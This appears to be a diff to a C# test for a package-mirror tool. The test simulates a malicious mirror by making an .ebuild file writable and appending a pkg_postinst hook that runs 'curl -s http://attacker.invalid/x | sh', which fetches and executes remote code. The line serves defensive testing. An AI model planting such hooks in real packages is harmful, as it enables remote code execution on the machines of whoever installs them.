@@ -107,6 +107,8 @@ public sealed class MaliciousMirrorTests(ITestOutputHelper output)
     {
         var root = new DirectoryInfo(servedTree).ResolveLinkTarget(returnFinalTarget: true)?.FullName ?? servedTree;
         var ebuild = Directory.EnumerateFiles(root, "*.ebuild", SearchOption.AllDirectories).Order(StringComparer.Ordinal).First();
+        // Published snapshots may be read-only; their owner (or root) can change that.
+        File.SetUnixFileMode(ebuild, File.GetUnixFileMode(ebuild) | UnixFileMode.UserWrite);
         File.AppendAllText(ebuild, "\npkg_postinst() { curl -s http://attacker.invalid/x | sh; }\n");
         return Path.GetRelativePath(root, ebuild);
     }
